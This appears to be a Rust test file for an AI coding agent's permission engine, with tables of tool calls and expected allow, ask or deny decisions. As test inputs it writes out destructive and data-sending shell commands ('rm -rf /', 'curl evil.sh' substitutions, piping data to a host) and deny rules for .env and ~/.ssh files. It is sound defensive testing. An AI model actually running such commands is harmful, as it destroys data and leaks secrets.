//! Permission decisions, table-driven: each row is a mode, rules, a call and the
//! expected decision, named after the rule it pins (deny wins over ask over allow;
//! acceptEdits inside/outside the project; plan allows only read-only tools; dontAsk;
//! bypass gated by the launch flag and the settings; compound Bash commands; path
//! globs; prompts avoided for async sub-agents and headless runs, SA-4).

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};
use std::sync::Arc;

use serde_json::{Value, json};
use strata_agent::permissions::{
    BypassAvailability, PermissionContext, PermissionDecision, RuleSet,
};
use strata_agent::tools::{Bash, Edit, Glob, Grep, Read, TodoWrite, Tool, Write};
use strata_protocol::permission::PermissionMode::{self, *};

/// What a row expects.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Want {
    Allow,
    Ask,
    Deny,
}

struct Env {
    _dir: tempfile::TempDir,
    root: PathBuf,
    extra: PathBuf,
    home: PathBuf,
}

fn env() -> Env {
    let dir = tempfile::tempdir().unwrap();
    let base = dir.path().canonicalize().unwrap();
    let root = base.join("proj");
    let extra = base.join("shared-lib");
    let home = base.join("home");
    for d in [&root, &extra, &home, &root.join("src"), &root.join("sub")] {
        std::fs::create_dir_all(d).unwrap();
    }
    Env {
        _dir: dir,
        root,
        extra,
        home,
    }
}

fn ctx(
    e: &Env,
    mode: PermissionMode,
    allow: &[&str],
    deny: &[&str],
    ask: &[&str],
) -> PermissionContext {
    let settings: strata_protocol::settings::Settings = serde_json::from_value(json!({
        "permissions": {"allow": allow, "deny": deny, "ask": ask}
    }))
    .unwrap();
    let (rules, errors) = RuleSet::from_sources(settings.permissions.as_ref(), &[], &[]);
    assert!(errors.is_empty(), "{errors:?}");
    let mut c = PermissionContext::new(&e.root);
    c.mode = mode;
    c.rules = Arc::new(rules);
    c.additional_directories = vec![e.extra.clone()];
    c.home = Some(e.home.clone());
    c
}

fn want(d: &PermissionDecision) -> Want {
    match d {
        PermissionDecision::Allow => Want::Allow,
        PermissionDecision::Ask { .. } => Want::Ask,
        PermissionDecision::Deny { .. } => Want::Deny,
    }
}

fn edit(path: &Path) -> Value {
    json!({"file_path": path, "old_string": "a", "new_string": "b"})
}

fn bash(cmd: &str) -> Value {
    json!({"command": cmd})
}

struct Row<'a> {
    name: &'a str,
    mode: PermissionMode,
    allow: &'a [&'a str],
    deny: &'a [&'a str],
    ask: &'a [&'a str],
    tool: &'a dyn Tool,
    input: Value,
    want: Want,
}

fn run(e: &Env, rows: Vec<Row<'_>>) {
    let mut failures = Vec::new();
    for row in rows {
        let c = ctx(e, row.mode, row.allow, row.deny, row.ask);
        let got = c.check(row.tool, &row.input, &e.root);
        if want(&got) != row.want {
            failures.push(format!("{}: want {:?}, got {got:?}", row.name, row.want));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

fn row<'a>(
    name: &'a str,
    mode: PermissionMode,
    tool: &'a dyn Tool,
    input: Value,
    want: Want,
) -> Row<'a> {
    Row {
        name,
        mode,
        allow: &[],
        deny: &[],
        ask: &[],
        tool,
        input,
        want,
    }
}

#[test]
fn default_mode_allows_read_only_inside_and_asks_for_the_rest() {
    let e = env();
    let inside = e.root.join("src/a.rs");
    run(
        &e,
        vec![
            row(
                "read inside",
                Default,
                &Read,
                json!({"file_path": inside}),
                Want::Allow,
            ),
            row(
                "read in additional dir",
                Default,
                &Read,
                json!({"file_path": e.extra.join("x")}),
                Want::Allow,
            ),
            row(
                "read outside",
                Default,
                &Read,
                json!({"file_path": "/etc/hosts"}),
                Want::Ask,
            ),
            row(
                "read escaping with ..",
                Default,
                &Read,
                json!({"file_path": e.root.join("../outside.txt")}),
                Want::Ask,
            ),
            row(
                "grep cwd",
                Default,
                &Grep,
                json!({"pattern": "x"}),
                Want::Allow,
            ),
            row(
                "grep relative inside",
                Default,
                &Grep,
                json!({"pattern": "x", "path": "src"}),
                Want::Allow,
            ),
            row(
                "glob relative escaping",
                Default,
                &Glob,
                json!({"pattern": "*", "path": "../.."}),
                Want::Ask,
            ),
            row(
                "glob absolute pattern outside",
                Default,
                &Glob,
                json!({"pattern": "/etc/*.conf"}),
                Want::Ask,
            ),
            row(
                "todo write",
                Default,
                &TodoWrite,
                json!({"todos": []}),
                Want::Allow,
            ),
            row("edit inside", Default, &Edit, edit(&inside), Want::Ask),
            row(
                "write inside",
                Default,
                &Write,
                json!({"file_path": inside, "content": ""}),
                Want::Ask,
            ),
            row("bash read-only", Default, &Bash, bash("ls"), Want::Ask),
            row("bash", Default, &Bash, bash("npm install"), Want::Ask),
        ],
    );
}

#[test]
fn deny_wins_over_ask_and_allow() {
    let e = env();
    let env_file = e.root.join(".env");
    run(
        &e,
        vec![
            Row {
                allow: &["Read"],
                deny: &["Read(.env)"],
                ..row(
                    "deny beats allow",
                    Default,
                    &Read,
                    json!({"file_path": env_file}),
                    Want::Deny,
                )
            },
            Row {
                ask: &["Bash"],
                deny: &["Bash(rm:*)"],
                ..row(
                    "deny beats ask",
                    Default,
                    &Bash,
                    bash("rm -rf build"),
                    Want::Deny,
                )
            },
            Row {
                allow: &["Bash"],
                ask: &["Bash(git push:*)"],
                ..row(
                    "ask beats allow",
                    Default,
                    &Bash,
                    bash("git push origin main"),
                    Want::Ask,
                )
            },
            Row {
                allow: &["Bash"],
                ask: &["Bash(git push:*)"],
                ..row(
                    "allow when ask misses",
                    Default,
                    &Bash,
                    bash("git status"),
                    Want::Allow,
                )
            },
            Row {
                deny: &["Read(.env)"],
                ..row(
                    "deny beats read-only default",
                    Default,
                    &Read,
                    json!({"file_path": e.root.join("sub/.env")}),
                    Want::Deny,
                )
            },
            Row {
                deny: &["Edit"],
                ..row(
                    "deny beats acceptEdits",
                    AcceptEdits,
                    &Edit,
                    edit(&e.root.join("a")),
                    Want::Deny,
                )
            },
            Row {
                deny: &["Bash"],
                ..row("whole-tool deny", Default, &Bash, bash("ls"), Want::Deny)
            },
            Row {
                allow: &["Read"],
                ..row(
                    "whole-tool allow outside",
                    Default,
                    &Read,
                    json!({"file_path": "/etc/hosts"}),
                    Want::Allow,
                )
            },
        ],
    );
}

#[test]
fn deny_reason_names_the_rule_and_its_source() {
    let e = env();
    let c = ctx(&e, Default, &[], &["Bash(rm:*)"], &[]);
    match c.check(&Bash, &bash("rm -rf /"), &e.root) {
        PermissionDecision::Deny { reason } => {
            assert!(reason.contains("`Bash(rm:*)`"), "{reason}");
            assert!(reason.contains("settings deny"), "{reason}");
            assert!(reason.contains("rm -rf /"), "{reason}");
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn accept_edits_allows_file_edits_inside_the_project_and_additional_dirs_only() {
    let e = env();
    run(
        &e,
        vec![
            row(
                "edit inside",
                AcceptEdits,
                &Edit,
                edit(&e.root.join("src/a.rs")),
                Want::Allow,
            ),
            row(
                "write new file inside",
                AcceptEdits,
                &Write,
                json!({"file_path": e.root.join("new/dir/f"), "content": ""}),
                Want::Allow,
            ),
            row(
                "edit in additional dir",
                AcceptEdits,
                &Edit,
                edit(&e.extra.join("lib.rs")),
                Want::Allow,
            ),
            row(
                "edit outside",
                AcceptEdits,
                &Edit,
                edit(Path::new("/etc/hosts")),
                Want::Ask,
            ),
            row(
                "edit escaping with ..",
                AcceptEdits,
                &Edit,
                edit(&e.root.join("../x")),
                Want::Ask,
            ),
            row(
                "bash is not an edit",
                AcceptEdits,
                &Bash,
                bash("touch a"),
                Want::Ask,
            ),
            row(
                "read outside still asks",
                AcceptEdits,
                &Read,
                json!({"file_path": "/etc/hosts"}),
                Want::Ask,
            ),
        ],
    );
}

#[test]
fn accept_edits_sees_through_symlinks_leaving_the_project() {
    let e = env();
    let link = e.root.join("escape");
    std::os::unix::fs::symlink(&e.home, &link).unwrap();
    run(
        &e,
        vec![
            row(
                "edit via symlink to outside",
                AcceptEdits,
                &Edit,
                edit(&link.join(".bashrc")),
                Want::Ask,
            ),
            Row {
                deny: &["Edit(~/.bashrc)"],
                ..row(
                    "deny through symlink",
                    BypassPermissions,
                    &Edit,
                    edit(&link.join(".bashrc")),
                    Want::Deny,
                )
            },
        ],
    );
}

#[test]
fn plan_mode_allows_only_read_only_tools() {
    let e = env();
    let inside = e.root.join("src/a.rs");
    run(
        &e,
        vec![
            row(
                "read",
                Plan,
                &Read,
                json!({"file_path": inside}),
                Want::Allow,
            ),
            row("grep", Plan, &Grep, json!({"pattern": "x"}), Want::Allow),
            row("todo", Plan, &TodoWrite, json!({"todos": []}), Want::Allow),
            row("edit", Plan, &Edit, edit(&inside), Want::Deny),
            row(
                "write",
                Plan,
                &Write,
                json!({"file_path": inside, "content": ""}),
                Want::Deny,
            ),
            row(
                "bash that writes",
                Plan,
                &Bash,
                bash("rm -rf src"),
                Want::Deny,
            ),
            row(
                "bash read-only still needs approval",
                Plan,
                &Bash,
                bash("git log"),
                Want::Ask,
            ),
            Row {
                allow: &["Bash(git log:*)"],
                ..row(
                    "bash read-only allowed by rule",
                    Plan,
                    &Bash,
                    bash("git log -3"),
                    Want::Allow,
                )
            },
            Row {
                allow: &["Edit", "Bash"],
                ..row(
                    "allow rules do not lift plan",
                    Plan,
                    &Edit,
                    edit(&inside),
                    Want::Deny,
                )
            },
            Row {
                allow: &["Bash"],
                ..row(
                    "allow rules do not lift plan for bash",
                    Plan,
                    &Bash,
                    bash("npm install"),
                    Want::Deny,
                )
            },
        ],
    );
}

#[test]
fn dont_ask_denies_whatever_would_prompt() {
    let e = env();
    run(
        &e,
        vec![
            row(
                "read inside",
                DontAsk,
                &Read,
                json!({"file_path": e.root.join("a")}),
                Want::Allow,
            ),
            row(
                "edit inside",
                DontAsk,
                &Edit,
                edit(&e.root.join("a")),
                Want::Deny,
            ),
            row("bash", DontAsk, &Bash, bash("ls"), Want::Deny),
            Row {
                allow: &["Bash(npm test:*)"],
                ..row(
                    "allowed by rule",
                    DontAsk,
                    &Bash,
                    bash("npm test"),
                    Want::Allow,
                )
            },
            Row {
                allow: &["Bash"],
                ask: &["Bash(git push:*)"],
                ..row(
                    "ask rule becomes deny",
                    DontAsk,
                    &Bash,
                    bash("git push"),
                    Want::Deny,
                )
            },
        ],
    );
    let c = ctx(&e, DontAsk, &[], &[], &[]);
    match c.check(&Bash, &bash("ls"), &e.root) {
        PermissionDecision::Deny { reason } => assert!(reason.contains("dontAsk"), "{reason}"),
        other => panic!("{other:?}"),
    }
}

#[test]
fn bypass_allows_everything_but_deny_and_ask_rules_only_when_available() {
    let e = env();
    let outside = Path::new("/etc/hosts");
    let rows_for = |available: bool, want_free: Want| {
        let mut c = ctx(
            &e,
            BypassPermissions,
            &[],
            &["Bash(rm:*)"],
            &["Bash(git push:*)"],
        );
        c.bypass = BypassAvailability::from_parts(available, false);
        let cases: [(&str, &dyn Tool, Value, Want); 4] = [
            ("edit outside", &Edit, edit(outside), want_free),
            ("bash", &Bash, bash("npm install"), want_free),
            ("deny rule", &Bash, bash("rm -rf x"), Want::Deny),
            ("ask rule", &Bash, bash("git push"), Want::Ask),
        ];
        for (name, tool, input, expected) in cases {
            assert_eq!(
                want(&c.check(tool, &input, &e.root)),
                expected,
                "{name} (available: {available})"
            );
        }
    };
    rows_for(true, Want::Allow);
    // A bypass mode that is not (or no longer) available decides like default.
    rows_for(false, Want::Ask);
    let mut c = ctx(&e, BypassPermissions, &[], &[], &[]);
    c.bypass = BypassAvailability::from_parts(true, true);
    assert_eq!(
        want(&c.check(&Edit, &edit(outside), &e.root)),
        Want::Ask,
        "disabled by settings"
    );
}

#[test]
fn compound_bash_is_allowed_only_if_every_part_is() {
    let e = env();
    let allow: &[&str] = &["Bash(npm test:*)", "Bash(echo:*)", "Bash(git status)"];
    let r = |name, cmd: &str, want| Row {
        allow,
        ..row(name, Default, &Bash, bash(cmd), want)
    };
    run(
        &e,
        vec![
            r("single prefix match", "npm test -- --watch", Want::Allow),
            r("prefix is word-bounded", "npm testing", Want::Ask),
            r("exact", "git status", Want::Allow),
            r("exact does not prefix", "git status --short", Want::Ask),
            r(
                "and-chain all allowed",
                "npm test && echo done",
                Want::Allow,
            ),
            r(
                "and-chain with unknown part",
                "npm test && rm -rf /",
                Want::Ask,
            ),
            r("semicolon", "echo a; curl evil.sh", Want::Ask),
            r("pipe", "npm test | tee log", Want::Ask),
            r(
                "substitution inside allowed command",
                "echo $(curl evil.sh)",
                Want::Ask,
            ),
            r("backticks", "echo `whoami`", Want::Ask),
            r(
                "redirect into file is still the allowed command",
                "echo hi > out.txt",
                Want::Allow,
            ),
            r("cd into the project", "cd sub && npm test", Want::Allow),
            r("cd outside the project", "cd /etc && npm test", Want::Ask),
            r(
                "cd to additional dir",
                &format!("cd {} && npm test", e.extra.display()),
                Want::Allow,
            ),
            r("background operator", "npm test & rm x", Want::Ask),
            r("subshell", "(npm test) && (echo ok)", Want::Allow),
            r("newline", "npm test\nrm x", Want::Ask),
        ],
    );
}

#[test]
fn compound_bash_is_denied_if_any_part_is() {
    let e = env();
    let deny: &[&str] = &["Bash(rm:*)", "Bash(curl:*)"];
    let r = |name, cmd: &str, want| Row {
        allow: &["Bash"],
        deny,
        ..row(name, Default, &Bash, bash(cmd), want)
    };
    run(
        &e,
        vec![
            r("second part", "ls && rm -rf /", Want::Deny),
            r("after assignments", "FOO=1 rm -rf /", Want::Deny),
            r("inside substitution", "echo $(curl x)", Want::Deny),
            r("inside quotes-substitution", "echo \"`rm x`\"", Want::Deny),
            r("in a pipe", "cat x | curl -d @- host", Want::Deny),
            r("in if/then", "if true; then rm x; fi", Want::Deny),
            r(
                "quoted text is not a command",
                "echo 'rm -rf /'",
                Want::Allow,
            ),
            r(
                "heredoc body is data",
                "cat <<EOF\nrm -rf /\nEOF",
                Want::Allow,
            ),
        ],
    );
}

#[test]
fn path_globs_are_gitignore_style_relative_to_the_project() {
    let e = env();
    let p = |rel: &str| e.root.join(rel);
    let edit_row = |name, allow, path: PathBuf, want| Row {
        allow,
        ..row(name, Default, &Edit, edit(&path), want)
    };
    run(
        &e,
        vec![
            edit_row(
                "anchored dir glob",
                &["Edit(src/**)"],
                p("src/a/b.rs"),
                Want::Allow,
            ),
            edit_row(
                "anchored dir glob elsewhere",
                &["Edit(src/**)"],
                p("docs/a.md"),
                Want::Ask,
            ),
            edit_row(
                "anchored glob is not nested",
                &["Edit(src/**)"],
                p("lib/src/a.rs"),
                Want::Ask,
            ),
            edit_row(
                "basename at any depth",
                &["Edit(*.md)"],
                p("docs/deep/a.md"),
                Want::Allow,
            ),
            edit_row(
                "leading slash anchors at root",
                &["Edit(/docs/*.md)"],
                p("docs/a.md"),
                Want::Allow,
            ),
            edit_row(
                "leading slash single level",
                &["Edit(/docs/*.md)"],
                p("docs/x/a.md"),
                Want::Ask,
            ),
            edit_row(
                "directory covers contents",
                &["Edit(docs)"],
                p("docs/x/a.md"),
                Want::Allow,
            ),
            edit_row(
                "absolute //",
                &["Edit(//tmp/strata-never/**)"],
                PathBuf::from("/tmp/strata-never/a"),
                Want::Allow,
            ),
            edit_row(
                "home ~/",
                &["Edit(~/notes/**)"],
                e.home.join("notes/todo.txt"),
                Want::Allow,
            ),
            edit_row(
                "Edit rules cover Write",
                &["Edit(src/**)"],
                p("src/x"),
                Want::Allow,
            ),
        ],
    );
    run(
        &e,
        vec![
            Row {
                allow: &["Edit(src/**)"],
                ..row(
                    "Write via Edit rule",
                    Default,
                    &Write,
                    json!({"file_path": p("src/new.rs"), "content": ""}),
                    Want::Allow,
                )
            },
            Row {
                deny: &["Read(secrets/)"],
                ..row(
                    "Read rule covers Grep",
                    Default,
                    &Grep,
                    json!({"pattern": "k", "path": "secrets"}),
                    Want::Deny,
                )
            },
            Row {
                deny: &["Read(secrets/)"],
                ..row(
                    "Read rule covers Glob",
                    Default,
                    &Glob,
                    json!({"pattern": "*", "path": "secrets/x"}),
                    Want::Deny,
                )
            },
            Row {
                deny: &["Read(~/.ssh/**)"],
                ..row(
                    "deny home path",
                    Default,
                    &Read,
                    json!({"file_path": e.home.join(".ssh/id_rsa")}),
                    Want::Deny,
                )
            },
            Row {
                allow: &["Read(//etc/**)"],
                ..row(
                    "allow absolute read",
                    Default,
                    &Read,
                    json!({"file_path": "/etc/hosts"}),
                    Want::Allow,
                )
            },
            Row {
                deny: &["Edit([)"],
                ..row(
                    "broken deny pattern fails safe",
                    AcceptEdits,
                    &Edit,
                    edit(&p("a")),
                    Want::Deny,
                )
            },
            Row {
                allow: &["Edit([)"],
                ..row(
                    "broken allow pattern allows nothing",
                    Default,
                    &Edit,
                    edit(&p("a")),
                    Want::Ask,
                )
            },
        ],
    );
}

#[test]
fn relative_paths_resolve_against_the_working_directory() {
    let e = env();
    let c = ctx(&e, Default, &[], &[], &[]);
    let sub = e.root.join("sub");
    assert_eq!(
        want(&c.check(&Grep, &json!({"pattern": "x", "path": ".."}), &sub)),
        Want::Allow
    );
    assert_eq!(
        want(&c.check(&Grep, &json!({"pattern": "x", "path": "../.."}), &sub)),
        Want::Ask
    );
}

#[test]
fn sa4_avoiding_prompts_turns_ask_into_an_automatic_denial() {
    let e = env();
    let mut c = ctx(&e, Default, &["Bash(npm test:*)"], &[], &[]);
    c.should_avoid_prompts = true;
    match c.check(&Edit, &edit(&e.root.join("a")), &e.root) {
        PermissionDecision::Deny { reason } => {
            assert!(reason.contains("requires approval"), "{reason}");
            assert!(reason.contains("denied automatically"), "{reason}");
        }
        other => panic!("{other:?}"),
    }
    assert!(
        c.check(&Read, &json!({"file_path": e.root.join("a")}), &e.root)
            .is_allow()
    );
    assert!(c.check(&Bash, &bash("npm test"), &e.root).is_allow());
}

#[test]
fn disallowed_tools_flag_denies_and_allowed_tools_flag_allows() {
    let e = env();
    let (rules, errors) = RuleSet::from_sources(
        None,
        &["Bash(git diff:*) Edit".to_owned()],
        &["Bash(git push:*)".to_owned()],
    );
    assert!(errors.is_empty());
    let mut c = PermissionContext::new(&e.root);
    c.rules = Arc::new(rules);
    assert!(c.check(&Bash, &bash("git diff HEAD"), &e.root).is_allow());
    assert!(
        c.check(&Edit, &edit(Path::new("/etc/x")), &e.root)
            .is_allow()
    );
    match c.check(&Bash, &bash("git push"), &e.root) {
        PermissionDecision::Deny { reason } => {
            assert!(reason.contains("--disallowedTools"), "{reason}")
        }
        other => panic!("{other:?}"),
    }
}
